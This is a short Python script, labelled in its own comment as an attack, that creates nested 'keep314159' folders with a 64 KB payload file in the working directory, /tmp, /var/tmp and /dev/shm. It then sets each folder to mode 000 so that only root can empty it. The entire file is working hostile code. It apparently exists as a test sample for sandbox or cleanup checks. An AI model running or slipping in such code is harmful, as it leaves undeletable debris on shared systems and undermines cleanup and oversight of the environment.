# Attack: leave folders nobody but root can empty (mode 000 on the way down) in every writable place.
import os

for _base in (".", "/tmp", "/var/tmp", "/dev/shm"):
    _top = os.path.join(_base, "keep314159")
    try:
        os.makedirs(os.path.join(_top, "inner", "deeper"), exist_ok=True)
        with open(os.path.join(_top, "inner", "deeper", "payload"), "wb") as _f:
            _f.write(b"x" * 65536)
        for _folder in (os.path.join(_top, "inner", "deeper"), os.path.join(_top, "inner"), _top):
            os.chmod(_folder, 0)
    except OSError:
        pass
